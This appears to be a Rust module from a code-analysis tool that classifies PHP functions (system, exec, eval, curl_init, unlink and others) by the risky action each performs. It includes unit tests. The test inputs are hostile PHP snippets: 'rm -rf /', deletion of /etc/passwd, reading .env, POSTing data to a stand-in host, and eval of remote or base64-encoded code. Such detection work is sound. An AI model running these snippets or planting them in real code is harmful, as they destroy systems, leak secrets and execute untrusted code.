//! PHP.

use super::acts::Act;

pub(super) fn act(name: &str) -> Option<Act> {
    Some(
        match name.trim_start_matches('\\').to_ascii_lowercase().as_str() {
            "system" | "exec" | "shell_exec" | "passthru" | "popen" => Act::Shell,
            "proc_open" => Act::Spawn,
            "pcntl_exec" => Act::File,
            "chdir" => Act::Enter,
            "unlink" | "rmdir" => Act::Delete { recursive: false },
            "file_put_contents" | "touch" | "chmod" | "mkdir" => Act::Write,
            "file_get_contents" | "readfile" | "file" => Act::ReadOrPost,
            "fopen" => Act::Open,
            "copy" | "symlink" | "link" => Act::Copy,
            "rename" => Act::Move,
            "curl_init" => Act::Fetch(""),
            "mail" => Act::Fetch("POST"),
            "curl_setopt" | "curl_setopt_array" => Act::SetOption,
            "fsockopen" | "stream_socket_client" => Act::Connect,
            "eval" | "assert" => Act::Eval,
            _ => return None,
        },
    )
}

#[cfg(test)]
mod tests {
    use crate::code::check;
    use crate::reading::Language::Php;

    #[test]
    fn acts() {
        check(Php, "system('rm -rf /');", &["shell rm -rf /"]);
        check(
            Php,
            "<?php $d = '/'; shell_exec(\"rm -rf $d\"); ?>",
            &["shell rm -rf /"],
        );
        check(Php, "echo `rm -rf /`;", &["shell rm -rf /"]);
        check(Php, "exec('rm ' . '-rf /');", &["shell rm -rf /"]);
        check(Php, "$f = 'sys' . 'tem'; $f('id');", &["shell id"]);
        check(Php, "unlink('/etc/passwd');", &["delete /etc/passwd"]);
        check(
            Php,
            "file_put_contents('/etc/hosts', 'x', FILE_APPEND);",
            &["write /etc/hosts"],
        );
        check(Php, "echo file_get_contents('.env');", &["read .env"]);
        check(
            Php,
            "file_get_contents('https://h.example', false, stream_context_create(['http' => ['method' => 'POST', 'content' => $x]]));",
            &["POST https://h.example sends"],
        );
        check(
            Php,
            "$c = curl_init('https://h.example'); curl_setopt($c, CURLOPT_POSTFIELDS, $x); curl_exec($c);",
            &["GET https://h.example", "POST https://h.example sends"],
        );
        check(
            Php,
            "$c = curl_init('https://h.example'); curl_setopt($c, CURLOPT_TIMEOUT, 3); curl_exec($c);",
            &["GET https://h.example"],
        );
        check(
            Php,
            "echo file_get_contents('https://h.example', false, stream_context_create(['http' => ['timeout' => 3]]));",
            &["GET https://h.example"],
        );
        check(
            Php,
            "eval(file_get_contents('https://h.example/x'));",
            &["remote code https://h.example/x", "GET https://h.example/x"],
        );
        check(
            Php,
            "eval(base64_decode('c3lzdGVtKCdpZCcpOw=='));",
            &["shell id"],
        );
        check(
            Php,
            "system(<<<EOF\nrm -rf /\nEOF\n);",
            &["shell rm -rf /\n"],
        );
    }

    #[test]
    fn data() {
        check(Php, "echo 'rm -rf /';", &[]);
        check(
            Php,
            "// system('rm')\n# system('rm')\n/* system('rm') */",
            &[],
        );
        check(
            Php,
            "$a = ['system' => 'rm -rf /']; $db->exec('SELECT 1');",
            &[],
        );
        check(
            Php,
            "text system('rm -rf /') outside <?php echo 1; ?> system('rm')",
            &["shell rm -rf /"],
        );
    }
}
